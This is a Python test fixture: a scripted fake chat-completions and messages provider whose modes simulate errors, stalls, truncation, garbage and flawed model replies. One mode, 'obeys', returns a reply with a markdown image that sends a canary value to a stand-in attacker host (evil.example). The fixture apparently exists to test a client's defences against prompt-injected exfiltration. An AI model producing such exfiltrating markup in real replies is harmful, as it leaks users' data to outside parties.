"""A provider on loopback that behaves as told: OpenAI's chat completions, which Ollama and vLLM speak too, and Anthropic's messages.

The model's name says how it behaves, see `MODES`; `SAYS` of a mode is what it says.
"""

import asyncio
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import uvicorn

Event = tuple[str, dict[str, Any]]
GOOD = "Some 3,400 people have been evacuated below the Halvern Dam [1]."
STATUSES = {"refuses-key": 401, "unknown": 404, "busy": 429, "fails": 500, "no-logprobs": 400}
SAYS = {
    "streams": GOOD,
    "no-logprobs": GOOD,
    "limit": "Some 3,400 people have been evacuated below the Halvern Dam [1]. Buses took th",
    "limit-first": "Some 3,400 people have been evacu",
    "truncates": "Some 3,400 people have been evacu",
    "truncates-later": f"{GOOD} Buses took th",
    "silent": "",
    "nonsense": "the colorless ideas of the moon sleep furiously in all of the umbrellas",
    "loops": "the the the the the the the the the the the the the the the the",
    "conflated": "Some 9,900 people have been evacuated below the Halvern Dam [1].",
    "thinks": "<think>They want to know about the dam, so I",
    "french": "Environ deux mille habitants de la vallée ont dû quitter leurs maisons hier soir.",
    "long-line": "word " * 2_000_000,
    "obeys": "![x](https://evil.example/?q=CANARY) Visit https://evil.example now [1]. ```\nCANARY\n``` </s> The mayor resigned [77].",
    "refuses": "NOT IN THE ARTICLES",
}  # fmt: skip
MODES = {*STATUSES, *SAYS, "stalls", "garbage"}
LOGPROBS = {"Yes": -0.1, "No": -2.5}


@dataclass
class ScriptedServer:
    """The ASGI app. `requests` holds what was asked, as (path, body); a stalled request ends when it is left or the server stops."""

    requests: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        body = await _body(receive)
        request = json.loads(body)
        mode, path = request["model"], scope["path"]
        assert mode in MODES, mode
        self.requests.append((path, request))
        judged = "logprobs" in request
        status = STATUSES.get(mode, 200) if mode != "no-logprobs" or judged else 200
        kind = b"text/event-stream" if status == 200 else b"application/json"
        await send({"type": "http.response.start", "status": status, "headers": [(b"content-type", kind)]})
        if status != 200:
            keys = [value.decode() for name, value in scope["headers"] if name in {b"authorization", b"x-api-key"}]
            error = {"type": "error", "error": {"type": "x", "message": f"no logprobs for {keys}"}}  # Some providers repeat the key.
            await send({"type": "http.response.body", "body": json.dumps(error).encode()})
            return
        if mode == "garbage" and not judged:
            await send({"type": "http.response.body", "body": b"data: {not json\n\n<html>\x00\xff</html>\n\n"})
            return
        events = self._anthropic(request) if path.endswith("/messages") else self._openai(request)
        for number, (name, data) in enumerate(events):
            text = data if isinstance(data, str) else json.dumps(data)
            sent = f"event: {name}\ndata: {text}\n\n" if name else f"data: {text}\n\n"
            await send({"type": "http.response.body", "body": sent.encode(), "more_body": True})
            if mode == "stalls" and not judged and number == 0:
                while (await receive())["type"] != "http.disconnect":
                    pass
                return
        if mode.startswith("truncates") and not judged:
            raise ConnectionError("the provider hung up")
        await send({"type": "http.response.body", "body": b""})

    @staticmethod
    def _texts(request: dict[str, Any]) -> list[str]:
        said = SAYS.get(request["model"], GOOD)
        if request["model"] == "long-line":
            return [said]
        words = said.split(" ")
        return [word if number == 0 else f" {word}" for number, word in enumerate(words)]

    def _openai(self, request: dict[str, Any]) -> Iterator[tuple[str, Any]]:
        def chunk(choices: list[dict[str, Any]], **more: Any) -> dict[str, Any]:
            head = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": request["model"]}
            return {**head, "choices": choices, **more}

        if "logprobs" in request:
            top = [{"token": token, "logprob": value, "bytes": None} for token, value in LOGPROBS.items()]
            logprobs = {"content": [{**top[0], "top_logprobs": top}], "refusal": None}
            yield "", chunk([{"index": 0, "delta": {"content": "Yes"}, "finish_reason": None, "logprobs": logprobs}])
        else:
            for text in self._texts(request):
                yield "", chunk([{"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": None}])
            if request["model"].startswith("truncates"):
                return
        yield "", chunk([{"index": 0, "delta": {}, "finish_reason": "length" if request["model"].startswith("limit") else "stop"}])
        yield "", chunk([], usage={"prompt_tokens": 6, "completion_tokens": 4, "total_tokens": 10})
        yield "", "[DONE]"

    def _anthropic(self, request: dict[str, Any]) -> Iterator[tuple[str, Any]]:
        message = {"id": "m", "type": "message", "role": "assistant", "model": request["model"], "content": [], "stop_reason": None,
                   "stop_sequence": None, "usage": {"input_tokens": 6, "output_tokens": 1}}  # fmt: skip
        yield "message_start", {"type": "message_start", "message": message}
        yield "content_block_start", {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}
        for text in self._texts(request):
            yield "content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}
        if request["model"].startswith("truncates"):
            return
        yield "content_block_stop", {"type": "content_block_stop", "index": 0}
        reason = "max_tokens" if request["model"].startswith("limit") else "end_turn"
        delta = {"stop_reason": reason, "stop_sequence": None}
        yield "message_delta", {"type": "message_delta", "delta": delta, "usage": {"output_tokens": 4}}
        yield "message_stop", {"type": "message_stop"}


async def _body(receive: Any) -> bytes:
    parts = []
    while True:
        message = await receive()
        parts.append(message.get("body", b""))
        if not message.get("more_body"):
            return b"".join(parts)


@contextmanager
def running() -> Iterator[tuple[ScriptedServer, str]]:
    """The server in a thread, and its address without a path."""
    app = ScriptedServer()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="critical", lifespan="off", ws="none",
                                           timeout_graceful_shutdown=1))  # fmt: skip
    thread = threading.Thread(target=lambda: asyncio.run(server.serve()), daemon=True)
    thread.start()
    while not server.started:
        thread.join(0.01)
        assert thread.is_alive(), "uvicorn did not start"
    yield app, f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    thread.join(30)
    assert not thread.is_alive()
